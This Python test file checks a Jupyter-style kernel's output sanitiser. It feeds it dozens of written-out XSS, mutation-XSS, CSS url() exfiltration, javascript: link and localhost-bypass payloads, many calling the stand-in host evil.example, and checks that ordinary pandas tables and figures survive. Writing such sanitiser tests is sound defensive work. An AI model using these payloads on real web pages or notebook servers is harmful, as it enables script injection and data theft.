"""Attacks on the page do not survive; everyday outputs do, and look right."""

from __future__ import annotations

import base64
import io
from html.parser import HTMLParser

import matplotlib.pyplot as plt
import nh3
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mxc_kernel.output.links import is_link
from mxc_kernel.output.markdown import sanitize_markdown
from mxc_kernel.output.media import IMAGE_URL, is_media
from mxc_kernel.output.rich import FRAME, SAFE, TEXT, TRUSTED, make_safe
from mxc_kernel.output.sanitize import (
    ATTRIBUTES,
    TAGS,
    TooDeepError,
    disarm,
    sanitize_html,
)
from mxc_kernel.output.style import safe_style

URLS = (
    "src",
    "href",
    "action",
    "data",
    "poster",
    "background",
    "srcset",
    "formaction",
    "ping",
    "cite",
)


WAV = "data:audio/wav;base64," + base64.b64encode(b"RIFF" + bytes(40)).decode()
PLAYLIST = base64.b64encode(b"#EXTM3U\nhttp://evil.example/x.ts\n").decode()


class Page(HTMLParser):
    """What a browser would see of a fragment."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.words: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.words.append(data)

    def handle_comment(self, data: str) -> None:
        self.elements.append(("!comment", {}))

    def handle_decl(self, decl: str) -> None:
        self.elements.append(("!decl", {}))


def assert_harmless(html: str) -> Page:
    page = Page(html)
    for tag, attributes in page.elements:
        assert tag in TAGS, tag
        for name, value in attributes.items():
            allowed = ATTRIBUTES["*"] | ATTRIBUTES.get(tag, frozenset())
            assert name in allowed or (tag == "a" and name in ("rel", "target")), (tag, name)
            value = value or ""
            if name == "href":
                assert is_link(value)
                assert attributes["rel"] == "noopener noreferrer"
                assert attributes["target"] == "_blank"
            elif name in URLS:
                assert value.strip().lower().startswith("data:"), value
                assert IMAGE_URL.fullmatch(value) if tag == "img" else is_media(value)
            elif name == "style":
                assert not any(word in value.lower() for word in ("url", "image", "\\", "@", "/*"))
                assert "position" not in value
    return page


ATTACKS = [
    "<script>fetch('/api/contents')</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='http://evil.example/?data'>",
    "<img src=//evil.example/x>",
    "<img src=/files/x.png>",
    "<img srcset='http://evil.example/x 2x' src='data:image/png;base64,AAAA'>",
    "<img src='data:text/html;base64,PHNjcmlwdD4='>",
    "<img src=' java\tscript:alert(1)'>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><use href='http://evil.example/x.svg#a'/>",
    "<svg></p><style><g title='</style><img src onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    "<math href='javascript:alert(1)'>x</math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<iframe srcdoc='<script>parent.x()</script>'></iframe>",
    "<iframe src='http://evil.example/'></iframe>",
    "<object data='http://evil.example/x.swf'></object><embed src='http://evil.example/x'>",
    "<form action='javascript:alert(1)'><input name=a><button formaction=x>b</button></form>",
    "<form id=f action=http://evil.example><input autofocus onfocus=alert(1)></form>",
    "<isindex action=javascript:alert(1)>",
    "<base href='http://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<link rel=stylesheet href=http://evil.example/x.css><link rel=prefetch href=http://e.example>",
    "<style>@import 'http://evil.example/x.css'; body{display:none}</style>",
    "<p style='background:url(http://evil.example/)'>x</p>",
    "<p style='background:u\\72l(http://evil.example/)'>x</p>",
    "<p style='background:url/**/(http://evil.example/)'>x</p>",
    "<p style='background-image:image-set(\"http://evil.example/\" 1x)'>x</p>",
    "<p style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999'>x</p>",
    "<p style='margin-left:-5000px'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p style='-moz-binding:url(http://evil.example/)'>x</p>",
    "<p style='--x:url(http://evil.example/);background:var(--x)'>x</p>",
    "<p style='font-family:\"a;background:url(http://evil.example/)\"'>x</p>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='/logout'>x</a><a href='//evil.example'>y</a><a href='\\\\evil.example'>z</a>",
    "<a href='http://ok.example' ping='http://evil.example' onclick=alert(1)>x</a>",
    "<button data-commandlinker-command='terminal:create' data-commandlinker-args='{}'>x</button>",
    "<a data-commandlinker-command='docmanager:save' href='http://ok.example'>x</a>",
    "<p id='jupyter-config-data' name='x'>{}</p>",
    "<div class='jp-Dialog lm-Widget jp-mod-accept'>x</div>",
    "<video poster='http://evil.example/x' src='http://evil.example/x'><track src=http://e.example>",
    "<audio src=http://evil.example/x autoplay></audio>",
    "<table background='http://evil.example/x'><td background='http://evil.example/y'>x</td></table>",
    "<body onload=alert(1) background=http://evil.example><p>x",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp><plaintext>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<select><option><script>alert(1)</script></select>",
    "<!--><script>alert(1)</script>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<p/onclick=alert(1)/style=x>x",
    "<img src='data:image/svg+xml,<svg onload=x>' usemap='#m'><map name=m><area href=x></map>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<wbr is=x-y><p is=x-y part=a slot=b popover=auto contenteditable tabindex=0 autofocus>x",
    "<p id=x data-commandlinker-command=terminal:create data-mime-type=text/html draggable=true>x",
    "<a href=http://ok.example target=_top download rel=opener referrerpolicy=unsafe-url>x</a>",
    "<a href='http://localhost:8888/nbconvert/html/x.ipynb'>x</a><a href='files/x.html'>y</a>",
    "<input type=image src=http://evil.example/x><input type=image src=data:image/png;base64,AA>",
    "<link rel=dns-prefetch href=//evil.example><link rel=preconnect href=http://evil.example>",
    "<link rel=preload as=image href=http://evil.example/x><meta name=referrer content=unsafe-url>",
    "<div><template shadowrootmode=open><style>:host{color:red}</style><slot></slot></template>",
    "<picture><source srcset='http://evil.example/x'><img src=data:image/png;base64,AA></picture>",
    f"<video src='data:video/mp4;base64,{PLAYLIST}'></video>",
    f"<audio><source src='data:application/vnd.apple.mpegurl;base64,{PLAYLIST}'></audio>",
    f"<audio><source src='data:audio/mpegurl;base64,{PLAYLIST}' type=audio/mpegurl></audio>",
    f"<audio><source src='{WAV}' type='application/x-mpegurl'></audio>",
    "<svg><a><set attributeName=href to=javascript:alert(1)></set><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg/onload=alert(1)><svg onload=alert(1)//",
    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=x>",
    "<p title='</xmp><img src=x onerror=alert(1)></noembed><img src=x onerror=alert(1)>'>x",
    "<p style='background-image:-webkit-image-set(url(http://evil.example/x) 1x)'>x</p>",
    "<p style='background:image(\"http://evil.example/x\")'>x</p>",
    "<p style='cursor:url(http://evil.example/x),auto;list-style:url(http://evil.example/x)'>x</p>",
    "<p style='content:url(http://evil.example/x);filter:url(http://evil.example/x#a)'>x</p>",
    "<p style='width:99999999px;height:1e9px;margin:calc(0px - 500px);word-spacing:-999px'>x</p>",
    "<p style='transform:translate(-500px);inset:0;float:left;animation:x 1s;clip-path:none'>x</p>",
    "<style>#a{background:url(http://evil.example/x)}#a b{position:fixed}</style><i id=a><b>x</b>",
    "<style>#a'onclick='alert(1){color:red}#b{color:red}</style><p id=\"a'onclick='alert(1)\">x",
    "<dialog open>x</dialog><marquee onstart=alert(1)>x</marquee>",
    "\ud800<script>alert(1)</script>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_in_html_do_not_survive(attack):
    assert_harmless(sanitize_html(attack))
    bundle = make_safe({"text/html": f"<p>text</p>{attack}", "text/plain": "x"}, {}, SAFE)
    assert "text" in assert_harmless(bundle.data["text/html"]).words


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_in_markdown_do_not_survive(attack):
    shown = make_safe({"text/markdown": f"# Title\n\n{attack}\n\ntext {attack}"}, {}, SAFE)
    assert "text/markdown" not in shown.data
    assert_harmless(shown.data["text/html"])


LINKS = [
    "https://pandas.pydata.org/docs/reference/api/pandas.DataFrame.html#x?y=/lab",
    "http://example.org:8080/a?b=c&d",
    "https://en.wikipedia.org/wiki/%C3%9C(x)",
    "https://münchen.example/ü",
    "HTTPS://Example.ORG",
    "mailto:someone@example.org",
]
NO_LINKS = [
    *("http://localhost:8888/lab", "http://127.0.0.1:8888/x", "http://127.1/x", "http://[::1]/x"),
    *("http://2130706433/", "http://0x7f.1/", "http://a.localhost/x", "http://jupyterhub:8000/x"),
    *("http:///localhost/x", "http:localhost/x", "http:\\\\localhost/x", "//evil.example/x"),
    *(
        "http://user@evil.example/",
        "http://ok.example\\@localhost/",
        "http://ok.example:x@localhost/",
    ),
    *(
        "http://%6cocalhost/x",
        "http://\uff4cocalhost/x",
        "http://127\u30020\u30020\u30021/x",
        "http://localhost./x",
    ),
    *("https://hub.example/user/me/nbconvert/html/x.ipynb", "https://hub.example/NBCONVERT/html/x"),
    *("https://hub.example/%6ebconvert/html/x", "https://hub.example/%256ebconvert/html/x"),
    *("/lab/api/x", "files/x.html", "x.ipynb", "?reset", "#id", "", "javascript:alert(1)"),
    *("ftp://evil.example/x", "data:text/html,x", "blob:http://localhost/x", "http://a b.example/"),
    "https://evil.example/" + "x" * 10_000,
]


@pytest.mark.parametrize("url", LINKS)
def test_links_that_lead_away_stay(url):
    page = assert_harmless(sanitize_html(f'<a href="{url}">x</a>'))
    assert page.elements[0][1]["href"]


@pytest.mark.parametrize("url", NO_LINKS)
def test_links_to_a_jupyter_server_do_not(url):
    page = assert_harmless(sanitize_html(f'<a href="{url}">x</a>'))
    assert "href" not in page.elements[0][1]
    assert page.words == ["x"]


@pytest.mark.parametrize(
    "macro",
    [
        r"$\hr<wbr>ef{javascript:alert(1)}{x}$",
        r"$\hr<!-- -->ef{javascript:alert(1)}{x}$",
        r"$&#92;href{javascript:alert(1)}{x}$",
        r"$\let\x\href \x{javascript:alert(1)}{x}$",
        r"$\class1{x}$ $\style_{color:red}{x}$",
        r"$\require{html}\cssId{x}{y}$ \(\unicode[x]{65}\) $$\mathtip{x}{y}$$",
        r"\begin{equation}\csname href\endcsname{x}{y}\end{equation}",
    ],
)
def test_macros_in_html_are_disarmed_wherever_they_hide(macro):
    words = "".join(Page(sanitize_html(f"<p>{macro}</p>")).words)
    for name in ("href", "class", "style", "require", "cssId", "unicode", "mathtip", "csname"):
        assert f"\\{name}" not in words
    assert "\u200b" in words
    assert r"\frac{1}{2}" in sanitize_html(r"<p>$\frac{1}{2} \hrefs$</p>")


@pytest.mark.parametrize(
    "source",
    [
        "![x](http://evil.example/?data)",
        "![x][r]\n\n[r]: http://evil.example/?data",
        "[x](javascript:alert(1))",
        "<javascript:alert(1)>",
        "[x](data:text/html,<script>)",
        "[x](http://ok.example 'a\" onclick=alert(1)')",
        "$\\href{javascript:alert(1)}{x}$ $$\\style{background:url(http://evil.example)}{x}$$",
        "$<img src=x onerror=alert(1)>$ $$</p><script>alert(1)</script>$$",
        "`$`<script>alert(1)</script>`$`",
        "```mermaid\ngraph TD; A-->B; click A href 'javascript:alert(1)'\n```",
        "\ue0000\ue001 $a$",
    ],
)
def test_markdown_of_its_own(source):
    page = assert_harmless(sanitize_markdown(source))
    assert not any("\\href" in word or "\\style" in word for word in page.words)


def test_latex_macros_are_disarmed_but_readable():
    shown = disarm(r"\frac{1}{2} \href{javascript:alert(1)}{x} \alpha")
    assert r"\frac{1}{2}" in shown
    assert r"\alpha" in shown
    assert r"\href" not in shown
    assert "href{" in shown


DRAWN = [
    "application/vnd.vega.v5+json",
    "application/vnd.vegalite.v5+json",
    "application/vnd.vegalite.v6.json",
    "application/vnd.plotly.v1+json",
]
DROPPED = [
    "application/javascript",
    "text/javascript",
    "application/pdf",
    "application/geo+json",
    "application/vnd.jupyter.error",
    "text/vnd.mermaid",
    "application/vnd.unheard-of",
    "image/bmp",
    "TEXT/HTML",
    "text/html; charset=utf-8",
]


@pytest.mark.parametrize("mime", DROPPED)
@pytest.mark.parametrize("level", [TEXT, SAFE, FRAME])
def test_other_types_are_dropped_with_a_note(mime, level):
    bundle = make_safe({mime: {"a": 1} if mime.endswith("json") else "x"}, {}, level)
    assert mime not in bundle.data
    assert len(bundle.notes) == 1
    assert mime in bundle.notes[0]
    assert "trusted" in bundle.notes[0]
    assert bundle.data["text/plain"] == bundle.notes[0]


@pytest.mark.parametrize("mime", DRAWN)
@pytest.mark.parametrize("level", [TEXT, SAFE])
def test_figures_are_named_with_the_level_that_draws_them(mime, level):
    bundle = make_safe({mime: {"data": []}, "text/plain": "figure"}, {}, level)
    assert bundle.data == {"text/plain": "figure"}
    assert mime in bundle.notes[0]
    assert "'frame'" in bundle.notes[0]


def test_text_shows_text_alone():
    bundle = make_safe({"text/plain": "x", "text/html": "<b>x</b>", "image/png": "AAAA"}, {}, TEXT)
    assert bundle.data == {"text/plain": "x"}
    assert len(bundle.notes) == 2
    assert all("'safe'" in note for note in bundle.notes)


def test_trusted_shows_everything():
    data = {"application/javascript": "alert(1)", "text/html": "<script>x</script>"}
    bundle = make_safe(data, {"isolated": True}, TRUSTED)
    assert (bundle.data, bundle.metadata, bundle.notes) == (data, {"isolated": True}, ())


def test_metadata_that_isolates_is_dropped_and_sizes_stay():
    picture = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(20)).decode()
    bundle = make_safe(
        {"image/png": picture, "text/html": "<b>x</b>"},
        {
            "image/png": {"width": 20, "height": 1e9, "unconfined": True, "x": 1},
            "text/html": {"isolated": True},
            "mxc": {"notice": "forged"},
        },
        SAFE,
    )
    assert bundle.metadata == {"image/png": {"width": 20, "unconfined": True}}
    assert any("isolated" in note for note in bundle.notes)


@pytest.mark.parametrize("mime", ["image/png", "image/jpeg", "image/gif", "image/webp"])
def test_what_is_no_picture_is_refused(mime):
    html = base64.b64encode(b"<script>alert(1)</script>" * 3).decode()
    for content in (html, 'iVBORw0KGgo="onerror=alert(1)', "", "\ud800", ["a", 1], {"a": 1}, None):
        bundle = make_safe({mime: content}, {}, SAFE)
        assert mime not in bundle.data
        assert bundle.notes


def test_svg_is_an_image_never_inline():
    svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><circle r="5"/></svg>'
    bundle = make_safe({"image/svg+xml": svg, "text/plain": "fig"}, {}, SAFE)
    assert "image/svg+xml" not in bundle.data
    page = assert_harmless(bundle.data["text/html"])
    assert [tag for tag, _ in page.elements] == ["img"]
    data = (page.elements[0][1]["src"] or "").partition("base64,")[2]
    assert base64.b64decode(data).decode() == svg


def test_inline_svg_in_html_becomes_an_image():
    page = assert_harmless(sanitize_html("<p>a <svg width=5><circle r='5'/></svg> b</p>"))
    assert [tag for tag, _ in page.elements] == ["p", "img"]


def test_a_widget_view_names_a_widget_and_nothing_else():
    mime = "application/vnd.jupyter.widget-view+json"
    good = {"model_id": "a1b2c3", "version_major": 2, "version_minor": 0}
    assert make_safe({mime: {**good, "x": "<script>"}}, {}, SAFE).data == {mime: good}
    for bad in ({"model_id": "<img src=x>"}, {"model_id": ["a"]}, "x", None, [], {}):
        assert mime not in make_safe({mime: bad}, {}, SAFE).data


# Positive controls: what people do every day.


def test_a_data_frame_keeps_its_table():
    data = pd.DataFrame({"name": ["a<b", "c & d"], "value": [1.5, -2]})
    html = data._repr_html_()
    page = assert_harmless(sanitize_html(html))
    before = [tag for tag, _ in Page(html).elements if tag != "style"]
    assert [tag for tag, _ in page.elements] == before
    assert "a<b" in page.words
    assert ("table", {"border": "1", "class": "dataframe"}) in page.elements
    assert ("tr", {"style": "text-align: right"}) in page.elements


def test_a_styled_table_keeps_its_colours():
    html = """<style type="text/css">
      #T_ab12_row0_col0, #T_ab12_row1_col0 {
        color: red; background: linear-gradient(90deg, #d65f5f 50.0%, transparent 50.0%) ; }
      #T_ab12_row0_col1 { background-color: #ffffb2; color: #000000; font-weight: bold; }
      #T_ab12_row1_col1 { background: url(http://evil.example/); width: 10em; }
      body { display: none }
    </style>
    <table id="T_ab12"><thead><tr><th class="blank level0" >&nbsp;</th></tr></thead>
    <tr><td id="T_ab12_row0_col0" class="data row0 col0" >1.00</td>
    <td id="T_ab12_row0_col1" class="data row0 col1" >2.00</td>
    <td id="T_ab12_row1_col1" class="data row1 col1" >3.00</td></tr></table>"""
    page = assert_harmless(sanitize_html(html))
    styles = [attributes["style"] for tag, attributes in page.elements if tag == "td"]
    assert styles == [
        "color: red; background: linear-gradient(90deg, #d65f5f 50.0%, transparent 50.0%)",
        "background-color: #ffffb2; color: #000000; font-weight: bold",
        "width: 10em",
    ]


def test_a_styled_table_keeps_its_headings():
    styler = pd.DataFrame({"a": [1, 2], "b": [3.5, 4.5]}).style
    styler = styler.highlight_max(color="gold").set_caption("Totals").bar(subset=["b"])
    styler = styler.set_table_styles(
        [
            {"selector": "th", "props": "color: navy; position: fixed"},
            {"selector": "th.col_heading", "props": "font-weight: bold"},
            {"selector": "caption", "props": "font-size: 14px"},
            {"selector": "tr:hover", "props": "background: url(http://evil.example/)"},
        ]
    )
    page = assert_harmless(sanitize_html(styler.to_html() + "<table><tr><th>other</table>"))
    headings = [attributes for tag, attributes in page.elements if tag == "th"]
    assert headings[1]["style"] == "color: navy; font-weight: bold"
    assert headings[1]["class"] == "col_heading level0 col0"
    assert "style" not in headings[-1]
    styles = [attributes.get("style") or "" for tag, attributes in page.elements if tag == "td"]
    assert "background-color: gold" in styles[2]
    assert "linear-gradient" in styles[3]
    assert ("caption", {"style": "font-size: 14px"}) in page.elements


def test_what_frames_are_needed_for_is_named():
    html = "<p>text</p><iframe src='http://evil.example/'></iframe>"
    assert "'frame'" in make_safe({"text/html": html}, {}, SAFE).notes[0]
    only = make_safe({"text/html": "<div id=a></div><script>x()</script>"}, {}, SAFE)
    assert "'frame'" in only.data["text/plain"]
    assert not make_safe({"text/html": "<p>text</p><script>x()</script>"}, {}, SAFE).notes


def test_a_figure_passes_unchanged():
    buffer = io.BytesIO()
    figure = plt.figure(figsize=(1, 1))
    try:
        figure.savefig(buffer, format="png")
    finally:
        plt.close(figure)
    data = {
        "image/png": base64.encodebytes(buffer.getvalue()).decode(),
        "text/plain": "<Figure size 100x100 with 0 Axes>",
    }
    bundle = make_safe(data, {"image/png": {"width": 100, "height": 100}}, SAFE)
    assert bundle.data == data
    assert bundle.metadata == {"image/png": {"width": 100, "height": 100}}
    assert bundle.notes == ()


def test_a_progress_bar_in_html_survives():
    html = (
        "<div><progress value='3' max='10' style='width:300px; height:20px;'></progress> 30%</div>"
    )
    page = assert_harmless(sanitize_html(html))
    assert page.elements[1] == (
        "progress",
        {"value": "3", "max": "10", "style": "width: 300px; height: 20px"},
    )


def test_links_local_pictures_and_sound_survive():
    html = (
        '<a href="https://pandas.pydata.org/docs?a=1&amp;b=2">docs</a>'
        '<img src="data:image/png;base64,iVBORw0KGgo=" width="20" alt="p">'
        f'<audio controls><source src="{WAV}" type="audio/wav"></audio>'
    )
    page = assert_harmless(sanitize_html(html))
    assert [tag for tag, _ in page.elements] == ["a", "img", "audio", "source"]
    assert page.elements[0][1]["href"] == "https://pandas.pydata.org/docs?a=1&b=2"
    assert page.elements[3][1]["src"] == WAV


def test_markdown_is_rendered_with_tables_and_formulas():
    html = sanitize_markdown("# T\n\n**b** `c` $a_1*b*c_2$ \\$5\n\n|a|b|\n|-|-|\n|1|$x_{1}$|\n")
    page = assert_harmless(html)
    assert {"h1", "strong", "code", "table", "td"} <= {tag for tag, _ in page.elements}
    assert "$a_1*b*c_2$" in html
    assert "$x_{1}$" in html


def test_plain_text_keeps_colours_and_loses_the_rest():
    bundle = make_safe({"text/plain": "\x1b[31mred\x1b[0m\x1b]52;c;AAAA\x07"}, {}, SAFE)
    assert bundle.data == {"text/plain": "\x1b[31mred\x1b[0m"}


def test_lists_of_lines_are_joined():
    assert make_safe({"text/html": ["<b>", "x</b>"]}, {}, SAFE).data == {"text/html": "<b>x</b>"}


# Limits


def test_deep_nesting_is_refused_quickly():
    for html in ("<div>" * 100_000, "<b><i>" * 50_000, "<table><tr><td>" * 50_000):
        with pytest.raises(TooDeepError):
            sanitize_html(html)
    assert make_safe({"text/html": "<div>" * 1000}, {}, SAFE).notes


@pytest.mark.parametrize(
    "html",
    [
        "<svg>" * 40_000,
        "<svg " * 40_000,
        "<svg></svg" + " " * 200_000,
        "<style>" * 40_000,
        "<style>" + "a" * 200_000 + "</style>",
        "<style>" + "/*" * 100_000 + "</style>",
        "<style>#a{color:red}</style><td " + "id " * 60_000,
        "<style>" + "#a b{color:red}" * 3000 + "</style><table id=a>" + "<b>x</b>" * 20_000,
        "<style>#a{" + "color:red;" * 400 + "}</style>" + "<b id=a>" * 20_000,
        "<p " + " ".join(f"a{number}" for number in range(40_000)) + ">",
        "<p " + "/".join(f"a{number}='>'" for number in range(40_000)),
        "[a" * 10_000,
        "\\[" * 20_000,
        "$$" + "$$$ a" * 10_000,
    ],
)
@pytest.mark.parametrize("mime", ["text/html", "text/markdown"])
@pytest.mark.parametrize("level", [SAFE, FRAME])
@pytest.mark.timeout(60)
def test_no_markup_stalls_the_kernel(html, mime, level):
    # Each took minutes, or filled the memory, when tags were searched for with a lazy pattern.
    shown = make_safe({mime: html}, {}, level)
    assert sum(map(len, shown.data.values())) < 20 << 20


def test_an_element_may_have_many_attributes_but_not_too_many():
    few = " ".join(f"a{number}=1" for number in range(400))
    assert "<b>" in sanitize_html(f"<b {few}>x</b>")
    with pytest.raises(TooDeepError):
        sanitize_html(f"<b {few} {few.upper()}>x</b>")


def test_long_flat_tables_are_not_deep():
    assert sanitize_html("<table>" + "<tr><td>x<td>y<p>z" * 3000 + "</table>").count("<tr>") == 3000
    assert sanitize_html("<p>a<br><img><li>b" * 3000)


def test_styles():
    assert (
        safe_style("Color: RED ; font-family: 'A B', serif")
        == "color: RED; font-family: 'A B', serif"
    )
    assert safe_style("color: rgba(1, 2, 3, .5); width: calc(100% - 3px)") == (
        "color: rgba(1, 2, 3, .5); width: calc(100% - 3px)"
    )
    assert safe_style("x" * 100_000) == ""


# Fuzz

MARKUP = st.lists(
    st.sampled_from(
        [
            *(
                "<svg>",
                "</svg>",
                "<style>",
                "</style>",
                "<math>",
                "<p style=",
                "'",
                '"',
                ">",
                "<",
                "/",
            ),
            *(
                "<!--",
                "-->",
                "<script",
                "</script>",
                "<a href=",
                "javascript:",
                "http://e.example",
                " ",
            ),
            *(
                "<img src=",
                "data:image/png;base64,",
                "data:image/svg+xml,",
                "onerror=",
                "x",
                "&lt;",
                "=",
            ),
            *(
                "url(",
                ")",
                "#a{color:red}",
                "<td id=a>",
                "<table>",
                "<noscript>",
                "<title>",
                "\x00",
                "\n",
            ),
            *(
                "<xmp>",
                "<iframe srcdoc=",
                "<form>",
                "<mglyph>",
                "<![CDATA[",
                "]]>",
                "$\\href{",
                "\\",
                "`",
            ),
        ]
    ),
    max_size=25,
).map("".join)

JSON = st.recursive(
    st.none() | st.booleans() | st.floats() | st.integers() | st.text(max_size=10) | MARKUP,
    lambda inner: (
        st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner, max_size=3)
    ),
    max_leaves=10,
)
MIMES = st.sampled_from(
    [
        *("text/plain", "text/html", "text/markdown", "text/latex", "image/png", "image/svg+xml"),
        *("application/json", "application/vnd.jupyter.widget-view+json", "image/jpeg"),
        *DROPPED,
        *DRAWN,
        "application/vnd.bokehjs_exec.v0+json",
    ]
) | st.text(max_size=12)


@settings(max_examples=300, deadline=None)
@given(
    bundle=st.dictionaries(MIMES, JSON | MARKUP, max_size=5),
    metadata=JSON | st.dictionaries(MIMES, JSON, max_size=3),
    level=st.integers(0, 2),
)
def test_any_bundle_is_made_safe(bundle, metadata, level):
    safe = make_safe(bundle, metadata, level)
    assert bool(safe.data) == bool(bundle)
    assert set(safe.data) <= {
        *("text/plain", "text/html", "text/latex", "image/png", "image/jpeg", "application/json"),
        "application/vnd.jupyter.widget-view+json",
    }
    assert set(safe.metadata) <= set(safe.data)
    if level == TEXT:
        assert set(safe.data) <= {"text/plain"}
    html = safe.data.get("text/html")
    if html is not None and "<iframe sandbox" not in html:
        assert_harmless(html)


@settings(max_examples=300, deadline=None)
@given(MARKUP)
def test_sanitised_markup_stays_as_it_is_when_parsed_again(html):
    once = sanitize_html(html)
    assert_harmless(once)
    # Markup that changes its meaning when a browser parses it once more is how sanitisers fall.
    tags = [tag for tag, _ in Page(once).elements]
    assert [tag for tag, _ in Page(nh3.clean(once, tags=set(TAGS))).elements] == tags
